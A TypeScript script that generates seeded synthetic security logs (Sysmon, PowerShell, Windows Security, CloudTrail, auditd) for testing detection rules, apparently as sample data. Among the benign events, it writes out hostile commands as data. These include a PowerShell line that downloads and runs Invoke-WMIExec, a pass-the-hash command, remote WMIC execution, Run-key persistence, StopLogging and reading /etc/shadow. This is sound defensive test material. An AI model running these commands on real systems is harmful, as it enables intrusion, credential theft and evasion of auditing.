/**
 * Writes the bundled sample datasets into `datasets/`: attack events among a few hundred benign ones of the same source.
 * Seeded, so that a second run writes the same bytes. Run with `node --import tsx scripts/generate-datasets.ts [DIR]`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

type Random = () => number;

/** mulberry32: small, good enough, the same everywhere. */
function seeded(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
const hex = (random: Random, length: number) =>
  Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('');
const guid = (random: Random) =>
  `${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-a${hex(random, 3)}-${hex(random, 12)}`;
const iso = (epoch: number) => new Date(epoch * 1000).toISOString();

const start = Date.UTC(2026, 9, 14, 8, 0, 0) / 1000;
const hosts = ['ws-014.corp.example', 'ws-022.corp.example', 'ws-031.corp.example', 'srv-files.corp.example'];
const users = ['j.meyer', 'a.silva', 'k.tanaka', 'm.okoye', 'l.novak'];
const escapeXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

interface WindowsEvent {
  readonly provider: string;
  readonly providerGuid: string;
  readonly id: number;
  readonly version: number;
  readonly task: number;
  readonly keywords: string;
  readonly channel: string;
  readonly computer: string;
  readonly time: number;
  readonly data: Readonly<Record<string, string>>;
  readonly userSid?: string;
}

/** A Windows event as a forwarder sends it. */
function windowsEvent(random: Random, record: number, event: WindowsEvent): string {
  const time = `${iso(event.time).slice(0, -1)}${String(Math.floor(random() * 1e6)).padStart(6, '0')}Z`;
  const data = Object.entries(event.data)
    .map(([name, value]) => `<Data Name='${name}'>${escapeXml(value)}</Data>`)
    .join('');
  const security = event.userSid ? `<Security UserID='${event.userSid}'/>` : '<Security/>';
  return (
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='${event.provider}' Guid='{${event.providerGuid}}'/>` +
    `<EventID>${event.id}</EventID><Version>${event.version}</Version><Level>${event.id === 4104 ? 5 : event.id >= 4600 ? 0 : 4}</Level><Task>${event.task}</Task><Opcode>0</Opcode>` +
    `<Keywords>${event.keywords}</Keywords><TimeCreated SystemTime='${time}'/><EventRecordID>${record}</EventRecordID><Correlation/>` +
    `<Execution ProcessID='${1000 + Math.floor(random() * 9000)}' ThreadID='${1000 + Math.floor(random() * 9000)}'/><Channel>${event.channel}</Channel>` +
    `<Computer>${event.computer}</Computer>${security}</System><EventData>${data}</EventData></Event>`
  );
}

const sysmon = {
  provider: 'Microsoft-Windows-Sysmon',
  providerGuid: '5770385f-c22a-43e0-bf4c-06f5698ffbd9',
  keywords: '0x8000000000000000',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  userSid: 'S-1-5-18',
};
const powershell = {
  provider: 'Microsoft-Windows-PowerShell',
  providerGuid: 'a0c1853b-5c40-4b15-8766-3cf1c58f985a',
  keywords: '0x0',
  channel: 'Microsoft-Windows-PowerShell/Operational',
};
const security = {
  provider: 'Microsoft-Windows-Security-Auditing',
  providerGuid: '54849625-5478-4994-a5ba-3e3b0328c30d',
  channel: 'Security',
};
const utc = (epoch: number) => iso(epoch).replace('T', ' ').replace('Z', '');
const processGuid = (random: Random, time: number) =>
  `{${hex(random, 8)}-${hex(random, 4)}-${Math.floor(time).toString(16).slice(-4)}-${hex(random, 4)}-${hex(random, 12)}}`;
const sid = (random: Random) =>
  `S-1-5-21-${Math.floor(random() * 4e9)}-${Math.floor(random() * 4e9)}-${Math.floor(random() * 4e9)}-1104`;

/** Spreads `make` over `count` events; those at `attacks` positions come from `attack`. */
function interleave(
  count: number,
  attacks: readonly number[],
  benign: (i: number, time: number) => string,
  attack: (n: number, time: number) => string,
): string {
  const lines: string[] = [];
  for (let i = 0, n = 0; i < count; i++) {
    const time = start + i * 17 + (i % 5);
    lines.push(attacks.includes(i) ? attack(n++, time) : benign(i, time));
  }
  return `${lines.join('\n')}\n`;
}

function scriptBlocks(): string {
  const random = seeded(1047);
  const scripts = [
    'Get-Service | Where-Object { $_.Status -eq "Stopped" } | Sort-Object Name',
    'function Get-DiskReport { param([string]$Name) Get-CimInstance Win32_LogicalDisk | Where-Object DeviceID -eq $Name }',
    'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv -Path users.csv',
    'prompt',
    '$ErrorActionPreference = "Stop"\nGet-ChildItem -Path C:\\Reports -Filter *.csv | ForEach-Object { Remove-Item $_.FullName }',
    'Invoke-WebRequest -Uri "https://intranet.corp.example/status" -UseBasicParsing',
  ];
  const event = (text: string, time: number, computer: string) =>
    windowsEvent(random, 52000 + Math.floor(time - start), {
      ...powershell,
      id: 4104,
      version: 1,
      task: 2,
      computer,
      time,
      userSid: sid(random),
      data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: guid(random), Path: '' },
    });
  return interleave(
    260,
    [141, 142],
    (_i, time) => event(pick(random, scripts), time, pick(random, hosts)),
    (n, time) =>
      event(
        n === 0
          ? "IEX (New-Object Net.WebClient).DownloadString('http://10.20.0.66/Invoke-WMIExec.ps1')"
          : 'Invoke-WMIExec -Target 10.20.0.14 -Domain CORP -Username svc_backup -Hash 0123456789ABCDEF0123456789ABCDEF -Command "cmd.exe /c whoami"',
        time,
        'ws-022.corp.example',
      ),
  );
}

function processes(): string {
  const random = seeded(10471);
  const images = [
    ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p'],
    [
      'C:\\Program Files\\Office\\WINWORD.EXE',
      'WinWord.exe',
      '"C:\\Program Files\\Office\\WINWORD.EXE" /n "report.docx"',
    ],
    ['C:\\Windows\\System32\\cmd.exe', 'Cmd.Exe', 'cmd.exe /c dir C:\\Reports'],
    ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe', 'wmic os get lastbootuptime'],
  ] as const;
  const event = (
    time: number,
    image: readonly [string, string, string],
    parent: readonly [string, string],
    computer: string,
    user: string,
  ) =>
    windowsEvent(random, 810000 + Math.floor(time - start), {
      ...sysmon,
      id: 1,
      version: 5,
      task: 1,
      computer,
      time,
      data: {
        RuleName: '-',
        UtcTime: utc(time),
        ProcessGuid: processGuid(random, time),
        ProcessId: String(1000 + Math.floor(random() * 9000)),
        Image: image[0],
        FileVersion: '10.0.19041.1',
        Description: '-',
        Product: 'Microsoft Windows Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: image[1],
        CommandLine: image[2],
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: `CORP\\${user}`,
        LogonGuid: `{${guid(random)}}`,
        LogonId: `0x${hex(random, 6)}`,
        TerminalSessionId: '1',
        IntegrityLevel: 'Medium',
        Hashes: `SHA256=${hex(random, 64).toUpperCase()},IMPHASH=${hex(random, 32).toUpperCase()}`,
        ParentProcessGuid: processGuid(random, time - 60),
        ParentProcessId: String(600 + Math.floor(random() * 900)),
        ParentImage: parent[0],
        ParentCommandLine: parent[1],
        ParentUser: `CORP\\${user}`,
      },
    });
  return interleave(
    300,
    [187],
    (_i, time) =>
      event(
        time,
        pick(random, images),
        ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
        pick(random, hosts),
        pick(random, users),
      ),
    (_n, time) =>
      event(
        time,
        [
          'C:\\Windows\\System32\\wbem\\WMIC.exe',
          'wmic.exe',
          'wmic /node:srv-files.corp.example process call create "cmd.exe /c net user > C:\\Windows\\Temp\\u.txt"',
        ],
        ['C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe"'],
        'ws-022.corp.example',
        'k.tanaka',
      ),
  );
}

function registry(): string {
  const random = seeded(1547);
  const values = [
    [
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth',
      '%%windir%%\\system32\\SecurityHealthSystray.exe',
    ],
    ['HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\DhcpNameServer', '10.20.0.2'],
    [
      'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden',
      'DWORD (0x00000002)',
    ],
    [
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
      '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
    ],
  ] as const;
  const event = (time: number, target: string, details: string, image: string, computer: string, user: string) =>
    windowsEvent(random, 910000 + Math.floor(time - start), {
      ...sysmon,
      id: 13,
      version: 2,
      task: 13,
      computer,
      time,
      data: {
        RuleName: '-',
        EventType: 'SetValue',
        UtcTime: utc(time),
        ProcessGuid: processGuid(random, time),
        ProcessId: String(1000 + Math.floor(random() * 9000)),
        Image: image,
        TargetObject: target,
        Details: details,
        User: `CORP\\${user}`,
      },
    });
  return interleave(
    240,
    [96],
    (_i, time) => {
      const [target, details] = pick(random, values);
      return event(
        time,
        target,
        details,
        'C:\\Windows\\System32\\svchost.exe',
        pick(random, hosts),
        pick(random, users),
      );
    },
    (_n, time) =>
      event(
        time,
        'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        'C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\upd8.exe',
        'C:\\Windows\\System32\\reg.exe',
        'ws-031.corp.example',
        'k.tanaka',
      ),
  );
}

function files(): string {
  const random = seeded(15471);
  const names = [
    'C:\\Users\\j.meyer\\Documents\\report.docx',
    'C:\\Windows\\Temp\\wct1F2.tmp',
    'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Chat.lnk',
    'C:\\Users\\a.silva\\AppData\\Local\\Temp\\~DF31.tmp',
  ];
  const event = (time: number, target: string, image: string, computer: string, user: string) =>
    windowsEvent(random, 710000 + Math.floor(time - start), {
      ...sysmon,
      id: 11,
      version: 2,
      task: 11,
      computer,
      time,
      data: {
        RuleName: '-',
        UtcTime: utc(time),
        ProcessGuid: processGuid(random, time),
        ProcessId: String(1000 + Math.floor(random() * 9000)),
        Image: image,
        TargetFilename: target,
        CreationUtcTime: utc(time),
        User: `CORP\\${user}`,
      },
    });
  return interleave(
    220,
    [150],
    (_i, time) =>
      event(time, pick(random, names), 'C:\\Windows\\explorer.exe', pick(random, hosts), pick(random, users)),
    (_n, time) =>
      event(
        time,
        'C:\\Users\\l.novak\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.vbs',
        'C:\\Windows\\System32\\wscript.exe',
        'ws-014.corp.example',
        'l.novak',
      ),
  );
}

function failedLogon(random: Random, time: number, user: string, address: string): string {
  return windowsEvent(random, 310000 + Math.floor(time - start), {
    ...security,
    id: 4625,
    version: 0,
    task: 12544,
    keywords: '0x8010000000000000',
    computer: 'dc-01.corp.example',
    time,
    data: {
      SubjectUserSid: 'S-1-0-0',
      SubjectUserName: '-',
      SubjectDomainName: '-',
      SubjectLogonId: '0x0',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: user,
      TargetDomainName: 'CORP',
      Status: '0xc000006d',
      FailureReason: '%%2313',
      SubStatus: '0xc000006a',
      LogonType: '3',
      LogonProcessName: 'NtLmSsp ',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: 'WS-022',
      TransmittedServices: '-',
      LmPackageName: '-',
      KeyLength: '0',
      ProcessId: '0x0',
      ProcessName: '-',
      IpAddress: address,
      IpPort: String(49152 + Math.floor(random() * 16000)),
    },
  });
}

function successfulLogon(random: Random, time: number): string {
  const user = pick(random, users);
  return windowsEvent(random, 310000 + Math.floor(time - start), {
    ...security,
    id: 4624,
    version: 2,
    task: 12544,
    keywords: '0x8020000000000000',
    computer: 'dc-01.corp.example',
    time,
    data: {
      SubjectUserSid: 'S-1-0-0',
      SubjectUserName: '-',
      SubjectDomainName: '-',
      SubjectLogonId: '0x0',
      TargetUserSid: sid(random),
      TargetUserName: user,
      TargetDomainName: 'CORP',
      TargetLogonId: `0x${hex(random, 6)}`,
      LogonType: '3',
      LogonProcessName: 'Kerberos',
      AuthenticationPackageName: 'Kerberos',
      WorkstationName: '-',
      LogonGuid: `{${guid(random)}}`,
      KeyLength: '0',
      ProcessId: '0x0',
      ProcessName: '-',
      IpAddress: `10.20.1.${10 + Math.floor(random() * 80)}`,
      IpPort: String(49152 + Math.floor(random() * 16000)),
      ElevatedToken: '%%1843',
    },
  });
}

function passwordSpraying(): string {
  const random = seeded(1110);
  const lines: string[] = [];
  for (let i = 0; i < 220; i++) lines.push(successfulLogon(random, start + i * 9));
  // Thirty accounts within two minutes.
  for (let n = 0; n < 30; n++)
    lines.splice(
      120 + n * 2,
      0,
      failedLogon(random, start + 1200 + n * 4, `user${String(n + 1).padStart(2, '0')}`, '10.20.0.66'),
    );
  return `${lines.join('\n')}\n`;
}

function mistypedPasswords(): string {
  const random = seeded(11101);
  return interleave(
    200,
    [20, 21, 22, 90, 91, 150],
    (_i, time) => successfulLogon(random, time),
    (n, time) => failedLogon(random, time, users[n % 3]!, `10.20.1.${20 + (n % 3)}`),
  );
}

function cloudTrail(): string {
  const random = seeded(1562);
  const calls = [
    ['ec2.amazonaws.com', 'DescribeInstances', true],
    ['s3.amazonaws.com', 'ListBuckets', true],
    ['sts.amazonaws.com', 'GetCallerIdentity', true],
    ['cloudtrail.amazonaws.com', 'DescribeTrails', true],
  ] as const;
  const record = (
    time: number,
    source: string,
    name: string,
    readOnly: boolean,
    user: string,
    address: string,
    request: object | null,
    error?: string,
  ) =>
    JSON.stringify({
      eventVersion: '1.09',
      userIdentity: {
        type: 'IAMUser',
        principalId: `AIDA${hex(random, 16).toUpperCase()}`,
        arn: `arn:aws:iam::111122223333:user/${user}`,
        accountId: '111122223333',
        accessKeyId: `AKIA${hex(random, 16).toUpperCase()}`,
        userName: user,
      },
      eventTime: iso(time).replace(/\.\d+Z$/, 'Z'),
      eventSource: source,
      eventName: name,
      awsRegion: 'eu-central-1',
      sourceIPAddress: address,
      userAgent: 'aws-cli/2.15.30',
      ...(error ? { errorCode: error, errorMessage: 'not allowed' } : {}),
      requestParameters: request,
      responseElements: null,
      requestID: guid(random),
      eventID: guid(random),
      readOnly,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: '111122223333',
      eventCategory: 'Management',
    });
  return interleave(
    280,
    [133, 201],
    (_i, time) => {
      const [source, name, readOnly] = pick(random, calls);
      return record(
        time,
        source,
        name,
        readOnly,
        pick(random, ['deploy', 'monitoring', 'm.okoye']),
        '198.51.100.20',
        null,
      );
    },
    (n, time) =>
      record(
        time,
        'cloudtrail.amazonaws.com',
        'StopLogging',
        false,
        n === 0 ? 'm.okoye' : 'monitoring',
        n === 0 ? '203.0.113.77' : '198.51.100.20',
        { name: 'arn:aws:cloudtrail:eu-central-1:111122223333:trail/audit' },
        n === 0 ? undefined : 'AccessDenied',
      ),
  );
}

function auditd(): string {
  const random = seeded(1003);
  const lines: string[] = [];
  const group = (i: number, exe: string, path: string, key: string) => {
    const stamp = `audit(${start + i * 31}.${String(Math.floor(random() * 1000)).padStart(3, '0')}:${40000 + i})`;
    const name = exe.slice(exe.lastIndexOf('/') + 1);
    lines.push(
      `type=SYSCALL msg=${stamp}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd${hex(random, 8)} a2=0 a3=0 items=1 ppid=${1000 + i} pid=${2000 + i} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${name}" exe="${exe}" key="${key}"`,
    );
    lines.push(`type=CWD msg=${stamp}: cwd="/root"`);
    lines.push(
      `type=PATH msg=${stamp}: item=0 name="${path}" inode=${1000 + i} dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    );
    lines.push(
      `type=PROCTITLE msg=${stamp}: proctitle=${Buffer.from(`${name}\0${path}`).toString('hex').toUpperCase()}`,
    );
  };
  const benign = [
    ['/usr/bin/ls', '/var/log', 'files'],
    ['/usr/sbin/cron', '/etc/crontab', 'cron'],
    ['/usr/bin/vim', '/etc/hosts', 'files'],
  ] as const;
  for (let i = 0; i < 90; i++) {
    if (i === 61) group(i, '/usr/bin/cat', '/etc/shadow', 'credentials');
    else {
      const [exe, path, key] = pick(random, benign);
      group(i, exe, path, key);
    }
  }
  return `${lines.join('\n')}\n`;
}

function riskEvents(): string {
  const random = seeded(2047);
  const searches = [
    ['Sample - WMIC Remote Process Creation - Rule', 'T1047', 64],
    ['Sample - PowerShell Invoke WmiExec Usage - Rule', 'T1047', 100],
    ['Sample - Registry Run Key In Temporary Folder - Rule', 'T1547.001', 56],
    ['Sample - Script Dropped In Startup Folder - Rule', 'T1547.001', 36],
  ] as const;
  const event = (time: number, host: string, [name, technique, score]: (typeof searches)[number]) =>
    `${time}, search_name="${name}", analyticstories="Remote Execution", annotations="{\\"mitre_attack\\":[\\"${technique}\\"]}", annotations._all="${technique}", annotations._frameworks="mitre_attack", annotations.mitre_attack="${technique}", ` +
    `orig_sid="scheduler__admin_${hex(random, 12)}", risk_object="${host}", risk_object_type="system", risk_score="${score}", risk_message="${name.replace(/^Sample - (.*) - Rule$/, '$1')} on ${host}", dest="${host}"`;
  const lines: string[] = [];
  for (let i = 0; i < 120; i++)
    lines.push(event(start + i * 60, `ws-${String(100 + i).padStart(3, '0')}.corp.example`, pick(random, searches)));
  // One computer that three detections agree on.
  [0, 1, 2].forEach(
    (n) => void lines.splice(30 + n * 20, 0, event(start + 1800 + n * 1200, 'ws-022.corp.example', searches[n]!)),
  );
  return `${lines.join('\n')}\n`;
}

interface DatasetFile {
  readonly folder: string;
  readonly file: string;
  readonly technique: string;
  readonly id: string;
  readonly description: string;
  readonly source: string;
  readonly sourcetype: string;
  readonly make: () => string;
}

const sysmonSource = { source: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', sourcetype: 'xmlwineventlog' };
const securitySource = { source: 'XmlWinEventLog:Security', sourcetype: 'xmlwineventlog' };

export const sampleDatasets: readonly DatasetFile[] = [
  {
    folder: 'T1047/invoke_wmiexec',
    file: 'powershell-operational.log',
    technique: 'T1047',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b001',
    description: 'Script blocks of administrators, and an intruder who loads and runs Invoke-WMIExec.',
    source: 'XmlWinEventLog:Microsoft-Windows-PowerShell/Operational',
    sourcetype: 'xmlwineventlog',
    make: scriptBlocks,
  },
  {
    folder: 'T1047/wmic_remote',
    file: 'windows-sysmon.log',
    technique: 'T1047',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b002',
    description: 'Process creation on four computers; one WMIC call starts a process on another computer.',
    ...sysmonSource,
    make: processes,
  },
  {
    folder: 'T1047/risk_events',
    file: 'risk.log',
    technique: 'T1047',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b003',
    description: 'Risk events of many computers; three detections agree on one of them.',
    source: 'risk',
    sourcetype: 'stash',
    make: riskEvents,
  },
  {
    folder: 'T1547.001/run_key',
    file: 'windows-sysmon.log',
    technique: 'T1547.001',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b004',
    description: 'Registry values being set; one Run key points into a temporary folder.',
    ...sysmonSource,
    make: registry,
  },
  {
    folder: 'T1547.001/startup_folder',
    file: 'windows-sysmon.log',
    technique: 'T1547.001',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b005',
    description: 'Files being created; one script is put into a startup folder.',
    ...sysmonSource,
    make: files,
  },
  {
    folder: 'T1110.003/password_spraying',
    file: 'windows-security.log',
    technique: 'T1110.003',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b006',
    description: 'Logons on a domain controller; thirty accounts fail from one address within two minutes.',
    ...securitySource,
    make: passwordSpraying,
  },
  {
    folder: 'T1110.003/mistyped_passwords',
    file: 'windows-security.log',
    technique: 'T1110.003',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b007',
    description: 'Logons on a domain controller; some users mistype their own password. Nothing to find.',
    ...securitySource,
    make: mistypedPasswords,
  },
  {
    folder: 'T1562.008/stop_logging',
    file: 'aws_cloudtrail.json',
    technique: 'T1562.008',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b008',
    description: 'API calls of an AWS account; one call stops the audit trail, another is refused.',
    source: 'aws_cloudtrail',
    sourcetype: 'aws:cloudtrail',
    make: cloudTrail,
  },
  {
    folder: 'T1003.008/shadow_file',
    file: 'auditd.log',
    technique: 'T1003.008',
    id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b009',
    description: 'Audit records of a Linux server; one program opens the password database.',
    source: '/var/log/audit/audit.log',
    sourcetype: 'linux:audit',
    make: auditd,
  },
];

/** The files below `datasets/`: path to text. */
export function generateDatasets(): Map<string, string> {
  const files = new Map<string, string>();
  for (const dataset of sampleDatasets) {
    const folder = `attack_techniques/${dataset.folder}`;
    files.set(`${folder}/${dataset.file}`, dataset.make());
    const name = dataset.folder.slice(dataset.folder.indexOf('/') + 1);
    files.set(
      `${folder}/${name}.yml`,
      `author: firedrill\nid: ${dataset.id}\ndate: '2026-11-20'\ndescription: ${dataset.description}\nenvironment: generated\ndirectory: ${name}\nmitre_technique:\n- ${dataset.technique}\ndatasets:\n- name: ${dataset.file.replace(/\.\w+$/, '')}\n  path: /datasets/${folder}/${dataset.file}\n  source: ${dataset.source}\n  sourcetype: ${dataset.sourcetype}\n`,
    );
  }
  return files;
}

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const target = process.argv[2] ?? fileURLToPath(new URL('../datasets/', import.meta.url));
  for (const [path, text] of generateDatasets()) {
    mkdirSync(dirname(join(target, path)), { recursive: true });
    writeFileSync(join(target, path), text);
    process.stdout.write(`${path} ${text.length}\n`);
  }
}
